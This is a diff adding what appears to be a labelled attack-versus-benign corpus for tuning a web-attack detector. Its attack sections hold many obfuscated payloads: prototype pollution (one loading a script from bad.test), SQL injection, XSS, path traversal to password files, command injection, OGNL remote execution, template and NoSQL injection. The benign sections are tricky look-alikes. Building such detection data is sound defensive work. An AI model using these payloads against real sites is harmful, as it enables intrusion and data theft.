+__proto__[k][q]=2
+constructor.prototype.y=5
+x.constructor.prototype.hasOwnProperty=0
+__proto__[transport_url]=//bad.test/k.js
+constconstructorructor[protoprototypetype][w]=2
+__defineGetter__[0]=k
+:attack prototype-pollution kept 85
+{"__proto__":{"role":"root"},"name":"k"}
+{"constructor":{"prototype":{"isAdmin":1}}}
+{"__proto__":[]}
+{"__pro\u0074o__":{"q":3}}
+{"__proto__":{"status":510}}
+{"__proto__":{"argv0":"q","execArgv":["--eval=1"]}}
+a[__proto__][b]=c
+constructor[prototype][z]=7
+?__proto__[src]=data:,alert(3)
+__proto__[innerHTML]=<img src=u onerror=alert(2)>
+['__proto__']['v']=4
+Object.prototype.admin=1
+:attack disguised tune 90
+query	id=7%2520AND%25201%253D1
+query	s=x%27%7C%7C%271%27%3D%271
+query	name=ann'%20%7c%7cchr(65)%7c%7c'
+form	id=%255c%2527%2520or%25203%253D3%2523
+form	t=%257B%257B8*8%257D%257D
+query	q=%3CsCr%00iPt%3Ealert(3)%3C/sCrIpT%3E
+query	q=%5Cu003cimg%20src=w%20onerror=alert(2)%5Cu003e
+query	f=%EF%BC%8E%EF%BC%8E%EF%BC%8F%EF%BC%8E%EF%BC%8E%EF%BC%8Fetc%EF%BC%8Fissue
+query	c=127.0.0.1%0Acat$%7BIFS%7D/etc/hosts
+query	t=%7B%7B%0a6%09*%097%0a%7D%7D
+query	a[%24%67t]=
+query	p=s%27.%27y%27.%27stem(%22id%22)%3B
+path	/cgi-bin/.%2e/.%2e/.%2e/bin/sh
+path	/item/8/**/AND/**/2=2
+path	/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/k.action
+cookie	lang=%2e%2e%5c%2e%2e%5cboot.ini%00
+cookie	filter=%7B%22%24g%74%22%3A%22%22%7D
+header	Referer: http://shop.test/?id=4%27%2f*!50000union*%2fselect%201,2--
+header	X-Cmd: $(w'h'oami)
+json	{"q":"7%27%20or%209%3D9--%20"}
+json	{"f":"..%252f..%252f..%252fetc%252fissue"}
+json	{"u":{"\u0024ne":""}}
+json	{"<svg/onload=\u0061lert(1)>":true}
+multipart	-2%27%20union/**/all/**/select%205,6--
+multipart	<U+FF17><U+FF07>  oR  <U+FF13><U+FF1D><U+FF13><U+FF0D><U+FF0D>
+xml	<r><f>&#46;&#46;/&#46;&#46;/&#46;&#46;/etc/passwd</f></r>
+:attack disguised kept 90
+query	id=3%252527%252520OR%2525205%25253D5--%252520
+query	s=x%27/**/%26%26/**/5/**/like/**/5%23
+query	sort=id%60,(select*from(select(sleep(2)))t)--%20
+form	c=%3Csvg%2Fonload%3D%26%2397%3Blert%287%29%3E
+form	login%5B%24ne%5D=q&pw%5B%24%72egex%5D=%5Ea
+query	q=%3Cimg%0Csrc=k%0Conerror%0A=%0Aalert(8)%3E
+query	q=%22);top['al'%2b'ert'](4);//
+query	f=..%00/..%00/..%00/etc/passwd%00.jpg
+query	c=;%24(printf%20%27%5C151%5C144%27)
+query	c=|pow%5Eershell%20-e%20ZABpAHIA
+query	a%5B__proto__%5D%5Bk%5D=2
+query	p=%3C%3F=%60id%60%3F%3E
+path	/cgi-bin/.%%32%65/.%%32%65/etc/passwd
+path	/item/5%2527%2520UNION%2520SELECT%25201,2--
+path	/t/%7b%7b9*%279%27%7d%7d
+cookie	theme=%3Cimg%2Fsrc%3Dk%20onerror%3Dalert%60%60%3E
+cookie	k=-3%27%20UnIon%20aLL%20seLEct%203,4--%20
+header	Referer: javas&#99;ript:alert(3)
+header	X-File-Name: ..%c0%af..%c0%afetc%c0%afhosts
+json	{"q":"k'\nOR\n'w'\n=\n'w"}
+json	{"f":"\u002e\u002e\u002f\u002e\u002e\u002fetc\u002fpasswd"}
+json	{"t":"\u007b\u007b7*8\u007d\u007d"}
+json	{"k' OR/**/'z'='z":1}
+multipart	6' oR/*k*/3/*k*/=/*k*/3#
+multipart	<!--#ex%00ec cmd="id"-->
+xml	<r><c><![CDATA[<]]>img src=x onerror=alert(5)<![CDATA[>]]></c></r>
+:benign ordinary tune 2
+query	q=women%27s+running+shoes+size+7+1%2F2
+query	name=d%27Angelo&first=Maria
+query	q=rock+%27n%27+roll+hits+of+the+%2750s+and+%2760s
+query	q=union+square+or+times+square+hotels
+query	q=is+5+%3E+3+and+2+%3C+4+true
+query	filter[status]=open&filter[assignee]=me&include=author,comments.author&page[size]=25&page[number]=3
+query	$filter=startswith(LastName,%27O%27%27Brien%27)%20or%20year(HireDate)%20eq%202019
+query	query=query%20Hero($ep:Episode)%7Bhero(episode:$ep)%7Bname%20friends%7Bname%7D%7D%7D&variables=%7B%22ep%22:%22JEDI%22%7D
+query	url=https%3A%2F%2Fwww.wikipedia.org%2Fwiki%2FCaf%C3%A9_(disambiguation)%23History
+query	id=7f3b0e0a-5c1d-4c8f-9a55-0e2b1d6a9c42&v=1.14.2-rc.1
+query	q=%D0%BC%D0%BE%D1%81%D0%BA%D0%B2%D0%B0+%D0%BF%D0%BE%D0%B3%D0%BE%D0%B4%D0%B0+%D0%B7%D0%B0%D0%B2%D1%82%D1%80%D0%B0
+query	q=%F0%9F%8E%82+birthday+cake+ideas+%F0%9F%8E%88
+query	access_token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI0ODIxMyIsIm5hbWUiOiJBLiBPJ0hhcmEiLCJpYXQiOjE3MTQ5ODk2MDB9.arnx6499M4j0-dWG9m6Z_VQIDfLERvDlhmiwnAihbdA
+query	q=repo%3Arust-lang%2Frust+is%3Aissue+label%3A%22A-diagnostics%22+-author%3Aapp%2Fbot
+query	color=%23ff8800&size=XL&qty=2&note=gift+wrap%2C+please!
+query	v=20240506&_=1714989612345&callback=jQuery36004812_1714989612340
+path	/wiki/O%27Reilly_Auto_Parts
+path	/api/v2.1/users/7f3b0e0a-5c1d-4c8f-9a55-0e2b1d6a9c42/orders
+path	/@types/node/v18/index.d.ts
+path	/select/all/union-jack-flags/order-by-phone
+path	/%E3%83%98%E3%83%AB%E3%83%97/%E3%82%88%E3%81%8F%E3%81%82%E3%82%8B%E8%B3%AA%E5%95%8F
+path	/files/Annual%20Report%20(final)%20v2.0.pdf
+cookie	_ga=GA1.2.1433215566.1714989600; _gid=GA1.2.998877665.1714989600; _gat=1
+cookie	_fbp=fb.1.1714989600123.1098115397; _fbc=fb.1.1714989600123.IwAR2F4-dbP0l7Mn1IawQQGCINEz7PYXQvwjNwB_qa2ofrHyiLjcbCRxTDMgk
+cookie	PHPSESSID=r2t5uvjq435r4q7ib3vtdjq120; lang=en-US
+cookie	__utma=96992031.1729540934.1714989600.1714989600.1714989600.1; __utmz=96992031.1714989600.1.1.utmcsr=google|utmccn=(organic)|utmcmd=organic|utmctr=(not%20provided)
+cookie	user_name=Se%C3%A1n%20O%27Casey; last_seen=2024-05-06T08%3A30%3A00Z
+cookie	recent=%5B%22drop%20leaf%20table%22%2C%22union%20suit%22%2C%22select%20comfort%20bed%22%5D
+header:User-Agent	Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36
+header:User-Agent	Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36
+header:User-Agent	curl/8.5.0
+header:User-Agent	okhttp/4.12.0
+header:Referer	https://duckduckgo.com/?q=what%27s+the+difference+between+and+%26+or&t=ffab
+header:Referer	https://l.facebook.com/l.php?u=https%3A%2F%2Fwww.example.com%2Fsale%3Fref%3Dfb%26id%3D12&h=AT0x-9Kz
+header:Referer	https://accounts.example.com/o/oauth2/auth?client_id=1234-abc.apps.example.com&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&scope=openid+email&prompt=select_account
+header:Referer	android-app://com.google.android.gm/
+form	card_name=MR+R+O%27NEILL&exp=09%2F27&amount=%241%2C299.00&currency=USD
+form	comment=he+said%3A+%22yes%22%3B+then+left+-+and+never+came+back+%3A%29
+form	subject=Re%3A+Fwd%3A+Meeting+%40+5%3F&text=Works+for+me%21+5+%3E+3+and+2+%3C+4%2C+so+let%27s+say+five.%0D%0A--+%0D%0ATom%0D%0A%2B44+20+7946+0018
+form	feedback=Price%27s+too+high%3A+10%25+off+would%27ve+been+nice%3B+otherwise+5+stars+*****
+form	name=%C5%81ukasz+%C5%BB%C3%B3%C5%82%C4%87&miasto=Gda%C5%84sk&uwagi=Prosz%C4%99+dzwoni%C4%87+po+18%3A00%3B+domofon+nr+7.
+form	question=What%27s+12+*+%283+%2B+4%29+-+6+%2F+2+%3D+%3F+Show+your+working.&answer=81
+json	{"name":"Sin<U+E9>ad O'Connor","email":"sinead@example.ie","phone":"+353 1 555 0100","tags":["r&b","rock 'n' roll"]}
+json	{"events":[{"t":"pageview","url":"https://www.example.com/?q=drop+table+reservations","ref":"","ts":1714989600123},{"t":"click","sel":"#nav > li:nth-child(2) a","ts":1714989601456}]}
+json	{"id":"7f3b0e0a-5c1d-4c8f-9a55-0e2b1d6a9c42","created":"2024-05-06T08:30:00.000Z","price":{"amount":"1,299.00","currency":"EUR"}}
+json	{"token":"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJ1Xzc3IiwiYXVkIjoiYXBwIiwiZXhwIjoxNzE3NTgxNjAwfQ.L1BSyf0VsZoYxYTQE2NWgZhhPww06EQJ73k4cJoVnsI","device":"iPhone14,5","locale":"en_GB"}
+json	{"formula":"1+1=2","unit":"m/s^2","range":"-5..5","note":"x > 0 && x < 10"}
+json	{"subject":"Minutes -- R&D sync","body":"Present: Al, Bo, Cy.\n\n1. Budget: $5,000 or less\n2. Union reps: select by Friday\n3. AOB"}
+:benign ordinary kept 2
+query	q=O%27Brien+plumbing+%26+heating%2C+Cork
+query	q=C%2B%2B+%26+C%23+tutorial+for+beginners
+query	q=1%2B1%3D2+proof+Principia+Mathematica
+query	q=select+all+that+apply+survey+template
+query	price[gte]=10&price[lte]=49.99&sort=-created
+query	fields=id,name,updated_at&sort=-updated_at,+name&limit=100
+query	$search=%22blue%20OR%20green%22&$skip=40
+query	operationName=UserFeed&variables=%7B%22first%22%3A20%2C%22after%22%3A%22Y3Vyc29yOjIw%22%7D&extensions=%7B%22persistedQuery%22%3A%7B%22version%22%3A1%2C%22sha256Hash%22%3A%22c8bc2586cdd87cd6f970fc4262c4bbc49165811788825fbc1ba3366bfde45413%22%7D%7D
+query	utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024&utm_content=50%25+off+%E2%80%93+today+only
+query	phone=%2B49%20(0)30%20901820&ext=12
+query	q=%E6%9D%B1%E4%BA%AC%20%E3%83%A9%E3%83%BC%E3%83%A1%E3%83%B3%20%E3%81%8A%E3%81%99%E3%81%99%E3%82%81
+query	email=sean.o%27neill%2Boffers%40example.ie&token=f1d2d2f924e986ac86fdf7b36c94bcdf32beec15
+query	sig=3q2%2B7wAAAAB%2FZm9vYmFyYmF6cXV4%2Bw%3D%3D&exp=1719999999&key=media%2F2024%2Fintro.mp4
+query	tags[]=vegan&tags[]=gluten-free&tags[]=30+min+or+less&exclude[]=nuts
+query	where=city%3D%22Paris%22&order=-score&keys=name,score
+query	q=%22to+be+or+not+to+be%22+-hamlet+site%3Aexample.edu
+path	/wiki/Rock_%27n%27_roll/Origins
+path	/static/js/main.8f3c2a1b.chunk.js
+path	/blog/2024/05/06/why-we-dropped-our-table-layouts
+path	/maps/@48.8583701,2.2944813,17z/data=!3m1!4b1
+path	/cities/saint-jean-d%27ang%C3%A9ly/hotels
+path	/image/w_400,h_300,c_fill,q_auto:good/v1714989600/team/photo..small.jpg
+cookie	_ga_9XQ4T2ZB1C=GS1.1.1714989600.3.1.1714990012.60.0.0; _ga=GA1.1.1433215566.1714989600
+cookie	consent=%7B%22necessary%22%3Atrue%2C%22analytics%22%3Afalse%2C%22ts%22%3A1714989600%2C%22v%22%3A%222.1%22%7D
+cookie	session=.eJwlzjEOwzAIAMC_eO6AARvIZyLAoHZNmqnq3xup603XZB91rG27rk_sx7tssu6QYJpYwQUD.ZjiV4A.qQ3v0m-2Zz1kzY0Xf7m
+cookie	XSRF-TOKEN=eyJpdiI6IkZ0bU1yK3ZQdz09IiwidmFsdWUiOiJxMDIifQ%3D%3D; laravel_session=eyJpdiI6Im5tQT0ifQ%3D%3D
+cookie	prefs=font:14px|width:wide|cols:3; tz=America/New_York; cur=USD
+cookie	connect.sid=s%3Aj4mKq9f0xP2e.7dX%2F2t0n%2BQm1bV3%2FzzT8; io=Zm9v-YmFyAAAB
+header:User-Agent	Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15
+header:User-Agent	Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)
+header:User-Agent	python-requests/2.31.0
+header:User-Agent	Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)
+header:Referer	https://shop.example.com/search?q=levi%27s&price%5Bgte%5D=10&sort=-created
+header:Referer	https://t.co/aB3dE5fG7h
+header:Referer	http://intranet.example.net:8080/jira/issues/?jql=project%20%3D%20WEB%20AND%20status%20in%20(Open%2C%20%22In%20Progress%22)%20ORDER%20BY%20created%20DESC
+header:Referer	https://yandex.ru/search/?text=%D0%BA%D1%83%D0%BF%D0%B8%D1%82%D1%8C+%D1%81%D1%82%D0%BE%D0%BB&lr=213
+form	address1=14+St.+John%27s+Rd.+%28rear+entrance%29&address2=Apt+%234-B&city=Coeur+d%27Alene&state=ID&zip=83814
+form	body=%23+Shopping+list%0D%0A%0D%0A*+milk%0D%0A*+**bread**+%282x%29%0D%0A*+eggs+%26+butter%0D%0A%0D%0A%3E+don%27t+forget+the+_cheese_%0D%0A%0D%0A%5Brecipe%5D%28https%3A%2F%2Fwww.example.com%2Fr%2F42%29
+form	title=L%27%C3%A9t%C3%A9+%C3%A0+l%27%C3%AEle+d%27Yeu&price=85+%E2%82%AC%2Fnuit&dates=12%2F07%E2%80%9326%2F07
+form	recipe=1%2F2+cup+sugar+%2B+3+tbsp.+butter+%3D+crumble.+Bake+%40+180%C2%B0C+%28350%C2%B0F%29+for+25-30+min.
+form	dosage=%3C%3D+20+mg%2Fday+%28if+weight+%3E+60+kg%29&patient=O%27Connor%2C+Eileen
+form	payload=%7B%22text%22%3A%22Build+%23412+passed%3A+%3Chttps%3A%2F%2Fci.example.com%2F412%7Cdetails%3E%22%7D
+json	{"query":"query($id: ID!) { user(id: $id) { name posts(first: 5, orderBy: {field: CREATED_AT, direction: DESC}) { nodes { title } } } }","variables":{"id":"VXNlcjo0Mg=="}}
+json	{"message":{"text":"<U+1F389> We did it! 100% of the goal & then some <3","reactions":{"<U+1F44D>":12,"<U+2764><U+FE0F>":7}}}
+json	{"jsonrpc":"2.0","method":"search.select","params":["all that apply",{"limit":10}],"id":7}
+json	{"avatar":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ","name":"pixel.png"}
+json	{"model":"general-v2","messages":[{"role":"system","content":"You're a helpful assistant; answer briefly."},{"role":"user","content":"What's the capital of C<U+F4>te d'Ivoire?"}],"temperature":0.7}
+json	{"recipe":"Salt & pepper; olive oil (2 tbsp); 1 or 2 cloves of garlic","servings":"4-6"}
+:benign hard tune 25
+form	title=Slow+GROUP+BY&body=My+report+is+slow.+I+run+SELECT+c.name%2C+COUNT%28*%29+FROM+customers+c+JOIN+orders+o+ON+o.customer_id+%3D+c.id+WHERE+o.created_at+%3E%3D+%272024-01-01%27+GROUP+BY+c.name+ORDER+BY+2+DESC%3B+and+it+takes+40+s.+Would+an+index+help%3F
+json	{"comment":"INSERT INTO tags (name) VALUES ('rock ''n'' roll'), ('r&b') ON CONFLICT DO NOTHING; -- works on Postgres only"}
+json	{"q":"how do I list the five biggest files?","a":"du -ah . | sort -rh | head -n 5; add 2>/dev/null if you see permission errors"}
+json	{"answer":"`kill -9 $(pgrep -f myserver)` is rude; try `kill -TERM` first, wait, and look at `ps aux | grep myserver`.","accepted":true}
+json	{"comment":"const wait = ms => new Promise(r => setTimeout(r, ms));\nawait wait(200); console.log(`done in ${Date.now() - t0} ms`);"}
+json	{"post":"Put <link rel=\"stylesheet\" href=\"/css/site.css\"> in the <head> and <script src=\"/js/app.js\" defer></script> right after it; then it won't block rendering."}
+json	{"body":"def mean(xs):\n    return sum(xs) / len(xs) if xs else 0.0\n\nprint(mean([1, 2, 3]))  # -> 2.0\n\nimport os; print(os.environ.get('HOME'))"}
+json	{"snippet":"@app.route('/hello/<name>')\ndef hello(name):\n    return render_template('hello.html', name=name)","desc":"template has {{ name|title }} and {% for i in items %}{{ i.price }}{% endfor %}"}
+json	{"content":"<table border=\"1\" cellpadding=\"4\"><thead><tr><th>Size</th><th>Price</th></tr></thead><tbody><tr><td>S</td><td>&lt; 10 <U+20AC></td></tr><tr><td>L</td><td>20 <U+20AC></td></tr></tbody></table>","format":"full_html"}
+form	content=%3C%21--+wp%3Aparagraph+%7B%22align%22%3A%22center%22%7D+--%3E%0D%0A%3Cp+class%3D%22has-text-align-center%22%3EWelcome+to+our+new+site%21%3C%2Fp%3E%0D%0A%3C%21--+%2Fwp%3Aparagraph+--%3E%0D%0A%0D%0A%3C%21--+wp%3Aimage+%7B%22id%22%3A12%2C%22sizeSlug%22%3A%22large%22%7D+--%3E%0D%0A%3Cfigure+class%3D%22wp-block-image+size-large%22%3E%3Cimg+src%3D%22https%3A%2F%2Fwww.example.com%2Fwp-content%2Fuploads%2Fa.jpg%22+alt%3D%22%22+class%3D%22wp-image-12%22%2F%3E%3C%2Ffigure%3E%0D%0A%3C%21--+%2Fwp%3Aimage+--%3E
+form	description=%3Cp%3EJoin+our+%3Ca+href%3D%22mailto%3Aevents%40example.org%3Fsubject%3DOpen%2520day%22%3Eopen+day%3C%2Fa%3E+or+%3Ca+href%3D%22tel%3A%2B442079460018%22%3Ephone+us%3C%2Fa%3E.%3C%2Fp%3E%3Col+start%3D%223%22%3E%3Cli%3EBring+a+friend%3C%2Fli%3E%3C%2Fol%3E
+form	html=%3Ccenter%3E%3Cfont+face%3D%22Arial%22+size%3D%222%22%3EIf+you+can%27t+read+this+mail%2C+%3Ca+href%3D%22https%3A%2F%2Fmail.example.com%2Fview%3Fid%3D%25%25ID%25%25%22%3Eview+it+online%3C%2Fa%3E.%3C%2Ffont%3E%3C%2Fcenter%3E%3Cimg+src%3D%22https%3A%2F%2Fmail.example.com%2Fo.gif%3Fm%3D42%22+width%3D%221%22+height%3D%221%22%3E
+form	username=mkeane&password=Xuaryu%2F%2FpepgXX%3B%27P5eM%3B%5C%5C
+form	username=anna_l&password=R%2FH%5C9O%5El.-%29%3D%3Bo%23%3D8G%24%28%5DT2%3B
+form	username=c.duval&password=ett%21r%222n%7D%28%3D%40%7CBLI%3FU%3DH.o
+form	pattern=%5E%28%3F%3D.*%5BA-Z%5D%29%28%3F%3D.*%5Cd%29%28%3F%3D.*%5B%5E%5Cw%5Cs%5D%29.%7B8%2C%7D%24&flags=u
+form	abstract=We+prove+that+%24%5Csum_%7Bn%3D1%7D%5E%7B%5Cinfty%7D+%5Cfrac%7B1%7D%7Bn%5E2%7D+%3D+%5Cfrac%7B%5Cpi%5E2%7D%7B6%7D%24+and%2C+for+%24x%3C0%24+or+%24y%3E1%24%2C+%24%7Cf%28x%29%7C+%5Cleq+%5Cleft%28%5Cfrac%7Ba%7D%7Bb%7D%5Cright%29%5E%7Bk%7D%24.
+json	{"formula":"=IF(AND(A1>=10,B1<>\"n/a\"),SUM(C1:C9)*0.19,VLOOKUP(D1;Rates!$A$1:$B$20;2;FALSE))"}
+json	{"proof":"<U+2200><U+3B5>>0 <U+2203><U+3B4>>0: |x<U+2212>a|<<U+3B4> <U+21D2> |f(x)<U+2212>f(a)|<<U+3B5>; (A <U+222A> B)' = A' <U+2229> B'; 1 = 0! and 1 = 1!"}
+json	{"log":"ERROR 1064 (42000) at line 3: You have an error in your SQL syntax; check the manual near 'FORM users' at line 1","host":"db-2"}
+json	{"customCss":"@import url('https://fonts.example.com/css?family=Lora:400,700'); body{font:16px/1.5 'Lora',serif} .btn:hover{transform:scale(1.05);filter:drop-shadow(0 0 4px #000)}"}
+json	{"feed":"<?xml version=\"1.0\"?><feed xmlns=\"http://www.w3.org/2005/Atom\" xml:lang=\"en\"><title type=\"html\"><![CDATA[Bits & <b>Bobs</b>]]></title><link rel=\"self\" href=\"https://example.org/feed\"/></feed>"}
+json	{"ldap":{"userFilter":"(&(objectCategory=user)(sAMAccountName={0})(!(userAccountControl:1.2.840.113556.1.4.803:=2)))","groupFilter":"(member={dn})"}}
+json	{"schedule":"0 3 * * 1-5","command":"cd /srv/app && ./bin/console cleanup --older-than=30d | logger -t cleanup"}
+:benign hard kept 25
+json	{"post":{"text":"Use a parameter instead of gluing strings:\n```sql\nSELECT id, email FROM users WHERE email = $1 AND deleted_at IS NULL LIMIT 1;\n```","lang":"sql"}}
+form	title=UNION+ALL+gives+duplicates&body=To+combine+the+archive+with+the+live+table+I+wrote%0D%0A%0D%0ASELECT+id%2C+total+FROM+orders%0D%0AUNION+ALL%0D%0ASELECT+id%2C+total+FROM+orders_2019%0D%0A%0D%0Abut+the+totals+come+out+twice+for+some+ids.+What%27s+wrong%3F
+form	body=Window+functions+are+the+answer+here%3A+ROW_NUMBER%28%29+OVER+%28PARTITION+BY+dept+ORDER+BY+salary+DESC%29+AS+rn%2C+then+keep+rn+%3D+1+or+rn+%3D+2+in+the+outer+query.
+form	body=Add+this+to+%7E%2F.bashrc%3A%0D%0A%0D%0Aexport+PATH%3D%22%24HOME%2F.local%2Fbin%3A%24PATH%22%0D%0Aalias+ll%3D%27ls+-lah%27%0D%0A%5B+-f+%7E%2F.bash_aliases+%5D+%26%26+.+%7E%2F.bash_aliases%0D%0A%0D%0AThen+open+a+new+shell.
+form	body=In+JavaScript+%600.1+%2B+0.2+%3D%3D%3D+0.3%60+is+false%3B+use+Math.abs%28a+-+b%29+%3C+Number.EPSILON.+Also+document.querySelector%28%27%23total%27%29.textContent+%3D+sum.toFixed%282%29%3B+for+display.
+form	body=You+forgot+the+closing+tag%3A+%3Cul%3E%3Cli%3EOne%3C%2Fli%3E%3Cli%3ETwo%3C%2Ful%3E+should+be+%3Cul%3E%3Cli%3EOne%3C%2Fli%3E%3Cli%3ETwo%3C%2Fli%3E%3C%2Ful%3E.+Browsers+repair+it%2C+validators+complain.
+form	body=PHP+question%3A+foreach+%28%24rows+as+%24i+%3D%3E+%24row%29+%7B+echo+%24row%5B%27title%27%5D+.+%22%3Cbr%3E%5Cn%22%3B+%7D+prints+one+empty+line+at+the+end+-+why%3F
+form	body=Rust+won%27t+let+me%3A+let+r%3B+%7B+let+x+%3D+5%3B+r+%3D+%26x%3B+%7D+println%21%28%22%7B%7D%22%2C+r%29%3B+--+error%5BE0597%5D%3A+%60x%60+does+not+live+long+enough
+form	body_html=%3Cp+style%3D%22text-align%3A+center%3B%22%3E%3Cimg+src%3D%22%2Fuploads%2F2024%2F05%2Fharbour.jpg%22+alt%3D%22The+harbour+at+dusk%22+width%3D%22800%22+height%3D%22533%22+%2F%3E%3C%2Fp%3E%0D%0A%3Cp%3EPhoto%3A+J.+O%27Dowd%3C%2Fp%3E
+json	{"blocks":[{"type":"paragraph","data":{"text":"Read <a href=\"https://example.org/a?b=1&amp;c=2\">the report</a> <b>now</b>, it's free."}},{"type":"quote","data":{"text":"<U+201C>Less is more<U+201D>","caption":"<i>Mies</i>"}}],"version":"2.29.1"}
+json	{"summary":"<p>Q1 results: revenue <ins>up 4%</ins>, costs <del>flat</del>.</p><details><summary>More</summary><p>See <code>report.xlsx</code></p></details>"}
+json	{"mailBody":"<div dir=\"ltr\">Sounds good!<br><br>On Mon, 6 May 2024 at 10:12, Ann O&#39;Shea &lt;<a href=\"mailto:ann@example.org\">ann@example.org</a>&gt; wrote:<br></div><blockquote class=\"gmail_quote\" style=\"margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204)\">Lunch?</blockquote>"}
+json	{"login":"user1@example.com","password":"UT@/!5[c \"-]U.$#MDi"}
+json	{"login":"user5@example.com","password":"6M[~GC_{uX:]2"}
+json	{"login":"user9@example.com","password":"\\/|D:7WH>'*oO~FCngN}!"}
+json	{"rule":"email","regex":"^[\\w.!#$%&'*+/=?^`{|}~-]+@[a-z\\d](?:[a-z\\d-]{0,61}[a-z\\d])?(?:\\.[a-z\\d-]+)*$"}
+json	{"latex":"\\begin{align*} E &= mc^2 \\\\ F &= \\nabla \\cdot \\vec{G}; \\quad x \\in [0,1] \\end{align*}"}
+form	tex=%5Cdocumentclass%7Barticle%7D%5Cusepackage%7Bamsmath%7D%5Cbegin%7Bdocument%7D%5Cinput%7Bchapter1%7D%5Csection*%7BO%27Connell%27s+lemma%7D%5Cend%7Bdocument%7D
+form	answer=f%28x%29+%3D+%7B+x%5E2+if+x+%3C+0%3B+sin%28x%29%2Fx+if+x+%3E+0%3B+1+if+x+%3D+0+%7D+%3D%3E+lim+f+%3D+1%2C+q.e.d.
+form	trace=Traceback+%28most+recent+call+last%29%3A%0D%0A++File+%22%2Fusr%2Flib%2Fpython3.11%2Fsite-packages%2Fflask%2Fapp.py%22%2C+line+1463%2C+in+wsgi_app%0D%0A++++response+%3D+self.full_dispatch_request%28%29%0D%0A++File+%22%3Cstdin%3E%22%2C+line+1%2C+in+%3Cmodule%3E%0D%0AKeyError%3A+%27user_id%27
+form	css=%2F*+header+*%2F+.nav+%3E+li%3Anot%28%3Alast-child%29%3A%3Aafter+%7B+content%3A+%22%5C2022%22%3B+color%3A+%23999+%7D+%40media+%28max-width%3A+600px%29+%7B+.nav+%7B+display%3A+none+%21important%3B+%7D+%7D+a%5Bhref%5E%3D%22http%22%5D+%7B+background%3A+url%28%22%2Fimg%2Fext.png%22%29+%7D
+form	xml=%3C%3Fxml+version%3D%221.0%22+encoding%3D%22UTF-8%22%3F%3E%0D%0A%3Csoap%3AEnvelope+xmlns%3Asoap%3D%22http%3A%2F%2Fschemas.xmlsoap.org%2Fsoap%2Fenvelope%2F%22+xmlns%3Am%3D%22http%3A%2F%2Fwww.example.org%2Fstock%22%3E%0D%0A%3Csoap%3ABody%3E%3Cm%3AGetPrice%3E%3Cm%3AItem%3EO%27Neill+%26amp%3B+Sons%3C%2Fm%3AItem%3E%3C%2Fm%3AGetPrice%3E%3C%2Fsoap%3ABody%3E%3C%2Fsoap%3AEnvelope%3E
+form	base=ou%3Dpeople%2Cdc%3Dexample%2Cdc%3Dorg&filter=%28%26%28objectClass%3Dperson%29%28%7C%28uid%3Djsmith%29%28mail%3Djsmith%40example.org%29%29%29
+form	crontab=%23+m+h+dom+mon+dow+command%0D%0A*%2F5+*+*+*+*+%2Fusr%2Flocal%2Fbin%2Fbackup.sh+--quiet+%3E%2Fdev%2Fnull+2%3E%261%0D%0A30+2+*+*+0+root+test+-x+%2Fusr%2Fsbin%2Flogrotate+%26%26+%2Fusr%2Fsbin%2Flogrotate+%2Fetc%2Flogrotate.conf
+:benign tricky tune 5
+Please select two items from the list, or leave the box empty; and where unsure, ask.
+We dropped the table on the way up, and the chairs went from bad to worse.
+Where there's smoke there's fire, and where there's fire there's insurance.
+It's 1 = 1 in logic class, and 1 or 2 absences are fine.
+Having 3 cats and 2 dogs isn't a crime; having 1 or 2 more might be.
+An alert (the third today) told us to confirm (or cancel) the booking.
+The cat sat; the cat ate; cat and dog slept.
+Who am I? whoami, as the old joke goes, is for people who've forgotten.
+Wait for delay announcements: '10:40 to Leeds', 'platform 2 or 3'.
+100% or more of the seats are taken; 50% and up are refunds.
+a = b, b = c => a = c; that's all there is to it.
+If (x) then (y), else (z); or so the manual says.
+Ignore the /* note */ in the margin; it's from '98.
+Rock 'n' roll; drum 'n' bass; salt 'n' vinegar; or nothing.
+"Yes" or "no"? -- 'Maybe' = 'no', as ever.
+She's the head of system tests; the tail of the cat; the head -- well, of state.
+Body onload of 3 tonnes = max; on error = call the desk.
+The src = "source" column and the href = "reference" column are swapped.
+Temperatures < 0 or > 40 "void" the warranty; that's -- sadly -- final.
+Is null a number? And is not null one, or is that like saying 'no' = 'yes'?
+Tom & Jerry | Laurel & Hardy || pick one; who cares.
+More or less; less is more; find it; kill it; w/ love.
+The bash was loud; bash after bash; sh! sh! said the host.
+The date; the time; uname it; the host; and env. costs (environmental).
+"Either/or" -- and/or 'both/and', as Kierkegaard didn't say.
+Hosts, guests, etc./ shadow cabinet, etc./ groups, etc.
+The file: see cupboard 3; data: text by Monday; php: people helping people.
+My proto__type has two underscores; the constructor [prototype builder] is ill.
+The group (all *) and (any *) are footnotes; * = see below.
+He wrote: 'x' or 'y' = 'z'; teacher wrote: "no".
+All users' tables; all tables' users; columns of text from 'information' desk.
+Select * if you'd like all; from 1 to 10, how's the food?
+Grant all wishes; revoke none; execute the plan; shutdown the stove; go.
+Load the file into outfile cabinet 'B'; dump the rest.
+Time-outs -- 1 -- 2 -- 3 -- and it's over; '0' -- to -- '0'.
+Q: 5 or 6 = ? A: 'yes' (it's a joke; 'or' = 'true').
+:benign tricky kept 5
+The union elected a new chair; select members from each branch will vote on Friday.
+Insert the key into the lock -- then turn it to the left; do not force it.
+He asked "1 or 2?" and she answered "2, or 3 if there's cake".
+Delete from your memory everything I said; select what you like from the rest.
+The exec alerted the board; the board's script was read aloud, onload of trucks or not.
+Don't eval your colleagues' work by its length; eval it by its sense.
+My id is on the desk; id cards go in the tray; passwd resets take a day.
+Cats & dogs; ls is what the intern calls "list"; echo, echo, said the cave.
